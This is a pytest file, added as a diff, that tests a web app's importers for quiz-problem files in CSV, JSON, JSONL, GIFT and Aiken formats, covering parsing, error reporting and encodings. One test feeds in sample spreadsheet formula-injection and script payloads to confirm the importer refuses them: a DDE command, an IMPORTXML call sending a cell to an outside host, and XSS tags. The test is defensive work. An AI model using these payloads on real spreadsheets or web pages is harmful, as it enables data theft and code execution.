@@ -1,0 +1,344 @@
+"""The five formats read exactly: every example file imports as written, every planted error is
+reported at its line and field, and the parsers' finer points (GIFT escapes and ranges, Aiken
+leniency, CSV dialects, JSON line numbers and LaTeX backslashes) hold."""
+
+from pathlib import Path
+
+import pytest
+
+from webapp.problems.importers import UploadRefused, detect_format, read_problem_file
+
+EXAMPLES = Path(__file__).resolve().parents[3] / "docs" / "examples"
+LIMITS = {"max_bytes": 5 * 1024 * 1024, "max_items": 1000}
+
+
+def read(name: str, **options):
+    path = EXAMPLES / name
+    return read_problem_file(path.read_bytes(), filename=path.name, **LIMITS, **options)
+
+
+def read_text(text: str, filename: str, **options):
+    return read_problem_file(text.encode("utf-8"), filename=filename, **LIMITS, **options)
+
+
+def summary(item) -> tuple:
+    data = item.data
+    return (
+        item.line,
+        data["answer_kind"],
+        data["reference_answer"],
+        data["unit"],
+        tuple(data["choices"]),
+    )
+
+
+# --- good files import exactly -----------------------------------------------------------------
+
+
+def test_csv_example_imports_exactly():
+    read_file = read("problems.csv")
+    assert read_file.format == "csv"
+    assert read_file.file_warnings == []
+    assert all(not item.errors and not item.warnings for item in read_file.items)
+    assert [summary(item) for item in read_file.items] == [
+        (2, "expression", "11/12", "", ()),
+        (3, "expression", "8", "", ()),
+        (4, "expression", "x^2+4x+4", "", ()),
+        (5, "number", "60", "km/h", ()),
+        (6, "number", "19.62", "N", ()),
+        (7, "choice", "C", "", ("21", "27", "29", "33")),
+        (8, "choice", "C", "", ("S", "So", "Na", "N")),  # the answer "Na" is choice C
+        (9, "number", "12", "", ()),  # no answer type: a plain number is a number
+    ]
+    first = read_file.items[0].data
+    assert first["statement"] == r"Compute $\frac{3}{4} + \frac{1}{6}$."
+    assert first["solution"].startswith("Use the common denominator 12")
+    assert first["difficulty"] == 2 and first["tags"] == ["fractions"]
+    assert read_file.items[1].data["tags"] == ["equations", "linear"]
+    assert read_file.items[3].data["domain"] == "science"
+    # "1%" is relative; "0.05" is a margin in newtons, stored relative to 19.62 N.
+    assert read_file.items[3].data["tolerance"] == pytest.approx(0.01)
+    assert read_file.items[4].data["tolerance"] == pytest.approx(0.05 / 19.62)
+
+
+def test_json_example_imports_exactly_with_set_metadata():
+    read_file = read("problems.json")
+    assert (read_file.format, read_file.title) == ("json", "Fractions and motion")
+    assert read_file.description == "A short mixed set: every answer type once."
+    assert all(not item.errors and not item.warnings for item in read_file.items)
+    assert [summary(item) for item in read_file.items] == [
+        (5, "expression", "3/2", "", ()),
+        (14, "expression", "(x-3)(x+3)", "", ()),
+        (21, "number", "44.1", "m", ()),
+        (30, "choice", "C", "", ("Mass", "Temperature", "Velocity", "Energy")),
+        (38, "number", "36", "", ()),
+    ]
+    assert read_file.items[0].data["statement"] == r"Compute $\frac{2}{3} \cdot \frac{9}{4}$."
+    assert read_file.items[1].data["difficulty"] == 3  # "medium"
+    assert read_file.items[2].data["tolerance"] == pytest.approx(0.02)
+
+
+def test_jsonl_example_imports_exactly():
+    read_file = read("problems.jsonl")
+    assert read_file.format == "jsonl"
+    assert all(not item.errors and not item.warnings for item in read_file.items)
+    assert [summary(item) for item in read_file.items] == [
+        (1, "number", "24", "", ()),
+        (2, "expression", "12", "", ()),
+        (3, "number", "150", "s", ()),
+        (4, "choice", "B", "", ("0.5", "3/5", "0.55")),
+        (5, "expression", "3x^2", "", ()),
+    ]
+    assert read_file.items[1].data["statement"] == r"Solve $\frac{x}{4} = 3$."
+
+
+def test_gift_example_imports_exactly():
+    read_file = read("problems.gift", default_domain="science")
+    assert read_file.format == "gift"
+    assert all(not item.errors and not item.warnings for item in read_file.items)
+    assert [summary(item) for item in read_file.items] == [
+        (5, "number", "5", "", ()),
+        (7, "expression", "5/6", "", ()),
+        (9, "choice", "B", "", ("3", "9", "27", "81")),
+        (18, "number", "1020", "", ()),
+        (20, "choice", "A", "", ("True", "False")),
+        (22, "number", "19.5", "", ()),  # the range 19..20
+        (24, "choice", "A", "", ("newton", "joule", "watt")),
+    ]
+    items = read_file.items
+    assert items[1].data["statement"] == r"Compute $\frac{1}{2} + \frac{1}{3}$."
+    assert items[1].data["solution"].startswith("Common denominator 6")
+    assert items[3].data["tolerance"] == pytest.approx(10 / 1020)
+    assert items[5].data["tolerance"] == pytest.approx(0.5 / 19.5)
+    assert items[6].data["statement"] == "The unit of force is the _____."
+    assert [item.data["tags"] for item in items] == [["Algebra"]] * 3 + [["Physics"]] * 4
+    assert {item.data["domain"] for item in items} == {"science"}
+
+
+def test_aiken_example_imports_exactly():
+    read_file = read("problems-aiken.txt")
+    assert read_file.format == "aiken"  # recognised from the content of a .txt file
+    assert all(not item.errors and not item.warnings for item in read_file.items)
+    assert [summary(item) for item in read_file.items] == [
+        (1, "choice", "B", "", ("54", "56", "64", "48")),
+        (8, "choice", "C", "", ("Oxygen", "Nitrogen", "Argon", "Hydrogen")),
+        (15, "choice", "C", "", ("512", "1000", "1024", "2048")),
+        (22, "choice", "B", "", ("Venus", "Mercury", "Mars")),
+    ]
+    assert read_file.items[0].data["statement"] == "What is 7 × 8?"
+
+
+# --- planted errors are reported at their line and field ------------------------------------
+
+
+def errors_by_line(read_file) -> dict[int, set[str]]:
+    return {
+        item.line: {issue.field for issue in item.errors} for item in read_file.items if item.errors
+    }
+
+
+def test_csv_planted_errors():
+    read_file = read("with-errors/problems.csv")
+    assert errors_by_line(read_file) == {
+        3: {"statement"},
+        4: {"answer"},
+        5: {"answer"},
+        7: {"tolerance"},
+        8: {"difficulty"},
+    }
+    items = {item.line: item for item in read_file.items}
+    assert "forty-two" in items[4].errors[0].message
+    assert "only choices A–C" in items[5].errors[0].message
+    # An answer the verifier cannot parse is imported, flagged, and said so.
+    assert items[11].data["reference_error"]
+    assert items[11].warnings[0].field == "answer"
+    assert "not for training" in items[11].warnings[0].message
+    # A text answer matching a choice picks its letter; "mc" is a multiple-choice alias.
+    assert (items[10].data["answer_kind"], items[10].data["reference_answer"]) == ("choice", "B")
+
+
+def test_json_planted_errors():
+    read_file = read("with-errors/problems.json")
+    assert errors_by_line(read_file) == {
+        3: {"difficulty"},
+        4: {"choices"},
+        5: {"domain"},
+        6: {""},
+        7: {"statement"},
+    }
+    latex = next(item for item in read_file.items if item.line == 7)
+    assert "backslash twice" in latex.errors[0].message
+
+
+def test_jsonl_planted_errors():
+    read_file = read("with-errors/problems.jsonl")
+    assert errors_by_line(read_file) == {3: {""}, 4: {"tolerance"}, 5: {"statement"}}
+    broken = next(item for item in read_file.items if item.line == 3)
+    assert "not valid JSON" in broken.errors[0].message
+
+
+def test_gift_planted_errors():
+    read_file = read("with-errors/problems.gift")
+    assert errors_by_line(read_file) == {
+        4: {"answer"},
+        6: {"answer"},
+        8: {"answer"},
+        10: {"answer"},
+    }
+    messages = {item.line: item.errors[0].message for item in read_file.items if item.errors}
+    assert "no right answer" in messages[4]
+    assert "“three” is not a number" in messages[6]
+    assert "matching questions" in messages[8]
+    assert "more than one answer" in messages[10]
+
+
+def test_aiken_planted_errors():
+    read_file = read("with-errors/problems-aiken.txt")
+    assert errors_by_line(read_file) == {7: {"answer"}, 12: {"answer"}, 16: {"choices"}}
+    messages = {item.line: item.errors[0].message for item in read_file.items if item.errors}
+    assert messages[7].startswith("Line 10:") and "ANSWER: D" in messages[7]
+    assert "No “ANSWER: X” line" in messages[12]
+    assert messages[16].startswith("Line 18:")
+    # A lower-case key is accepted (Moodle would refuse the whole file).
+    assert read_file.items[-1].data["reference_answer"] == "B"
+
+
+# --- format details ----------------------------------------------------------------------------
+
+
+def test_csv_semicolons_aliases_and_option_columns():
+    text = "Question;Answer;Option A;Option B;Option C\nWhich is even?;B;3;4;5\n"
+    read_file = read_text(text, "export.csv")
+    item = read_file.items[0]
+    assert not item.errors
+    assert (item.data["answer_kind"], item.data["choices"]) == ("choice", ["3", "4", "5"])
+    assert any("semicolons" in warning for warning in read_file.file_warnings)
+
+
+def test_csv_multiline_statement_keeps_the_starting_line():
+    text = 'statement,answer\n"First line\nsecond line",1\nNext,2\n'
+    items = read_text(text, "a.csv").items
+    assert [item.line for item in items] == [2, 4]
+    assert items[0].data["statement"] == "First line\nsecond line"
+
+
+def test_csv_without_a_statement_column_is_refused():
+    with pytest.raises(UploadRefused, match="statement"):
+        read_text("foo,bar\n1,2\n", "a.csv")
+
+
+def test_csv_unclosed_quote_is_refused_with_its_line():
+    with pytest.raises(UploadRefused, match="Line 3"):
+        read_text('statement,answer\nok,1\n"never closed,2\n', "a.csv")
+
+
+def test_csv_row_with_too_many_values_names_the_line():
+    items = read_text("statement,answer\nWhat is 1,000 + 1?,1001\n", "a.csv").items
+    assert "double quotes" in items[0].errors[0].message
+
+
+def test_gift_escapes_numeric_alternatives_and_essay():
+    text = (
+        "::esc:: Is 2 \\= 2 \\{really\\}? {T}\n\n"
+        "::alts:: Pi? {#=3.14:0.01 =%50%3:0.5}\n\n"
+        "::essay:: Explain why. {}\n"
+    )
+    items = read_text(text, "a.gift").items
+    assert items[0].data["statement"] == "Is 2 = 2 {really}?"
+    assert (items[1].data["reference_answer"], items[1].data["tolerance"]) == (
+        "3.14",
+        pytest.approx(0.01 / 3.14),
+    )
+    assert items[2].data["answer_kind"] == "none" and not items[2].errors
+    assert "No reference answer" in items[2].warnings[0].message
+
+
+def test_gift_blank_line_inside_an_answer_does_not_split_the_question():
+    items = read_text("Which? {\n~a\n\n=b\n}\n", "a.gift").items
+    assert len(items) == 1 and items[0].data["reference_answer"] == "B"
+
+
+def test_detect_format_from_content():
+    assert detect_format("x", "[{}]") == "json"
+    assert detect_format("x", '{"a": 1}\n{"a": 2}\n') == "jsonl"
+    assert detect_format("x", "Q?\nA. 1\nB. 2\nANSWER: A\n") == "aiken"
+    assert detect_format("x", "Q? {=1}\n") == "gift"
+    assert detect_format("pasted text", "statement,answer\nQ,1\n") == "csv"
+    assert detect_format("x", "just words") is None
+
+
+def test_unknown_format_is_refused_clearly():
+    with pytest.raises(UploadRefused, match="cannot tell which format"):
+        read_text("just words", "notes")
+
+
+# --- encodings and hostile files ----------------------------------------------------------------
+
+
+@pytest.mark.parametrize(
+    "data,encoding",
+    [
+        ("statement,answer\nCafé costs?,5\n".encode(), "UTF-8"),
+        (b"\xef\xbb\xbf" + "statement,answer\nCafé costs?,5\n".encode(), "UTF-8 with BOM"),
+        ("statement,answer\nCafé costs?,5\n".encode("cp1252"), "Windows-1252"),
+        ("statement,answer\nCafé costs?,5\n".encode("utf-16"), "UTF-16"),
+        ("statement,answer\r\nCafé costs?,5\r\n".encode(), "UTF-8"),
+    ],
+)
+def test_encodings(data, encoding):
+    read_file = read_problem_file(data, filename="a.csv", **LIMITS)
+    assert read_file.encoding == encoding
+    assert read_file.items[0].data["statement"] == "Café costs?"
+
+
+@pytest.mark.parametrize(
+    "data,reason",
+    [
+        (b"PK\x03\x04" + b"\x00" * 100, "ZIP archive"),
+        (b"%PDF-1.7\n", "PDF"),
+        (b"\x89PNG\r\n\x1a\n", "PNG"),
+        (b"\xd0\xcf\x11\xe0\xa1\xb1", "old Microsoft Office"),
+        (b"statement,answer\nok,1\x00\x01\x02", "NUL bytes"),
+        (b"statement,answer\nbell\x07,1\n", "control character"),
+        (b"statement,answer\n\x81\x8d\x8f\x90,1\n", "neither UTF-8 nor Windows-1252"),
+        (b"   \n\n", "empty"),
+        (b"[" * 200_000, "nested too deeply"),
+        (b'{"problems": [{"statement": [[[[[["x"]]]]]]}]}', "levels deep"),
+        (b"x" * (LIMITS["max_bytes"] + 1), "the limit is"),
+    ],
+)
+def test_broken_and_hostile_files_are_refused(data, reason):
+    with pytest.raises(UploadRefused, match=reason):
+        read_problem_file(data, filename="upload.json", **LIMITS)
+
+
+@pytest.mark.parametrize(
+    "cell",
+    [
+        '=HYPERLINK("http://evil.example","click")',
+        "@SUM(A1:A9)",
+        "=cmd|' /C calc'!A0",
+        '+IMPORTXML(CONCAT("http://x/?",A1),"//a")',
+        "<script>alert(1)</script>",
+        '<img src=x onerror="alert(1)">',
+        "[click](javascript:alert(1))",
+        '<a href="#" onclick="steal()">x</a>',
+    ],
+)
+def test_formula_and_script_content_refuses_the_whole_file(cell):
+    text = f'statement,answer\nFine problem,1\n"{cell.replace(chr(34), chr(34) * 2)}",2\n'
+    with pytest.raises(UploadRefused) as refused:
+        read_text(text, "a.csv")
+    assert refused.value.details[0].startswith("Line 3, statement")
+
+
+@pytest.mark.parametrize("answer", ["-3", "-sin(x)", "+5", "x < 3 and y > 2"])
+def test_ordinary_maths_is_not_mistaken_for_a_formula_or_html(answer):
+    items = read_text(f'statement,answer\nQ,"{answer}"\n', "a.csv").items
+    assert items[0].data["reference_answer"] == answer
+
+
+def test_too_many_items_is_refused():
+    text = "statement,answer\n" + "".join(f"Compute {n} + 1.,{n + 1}\n" for n in range(1001))
+    with pytest.raises(UploadRefused, match="more than 1,000"):
+        read_text(text, "a.csv")
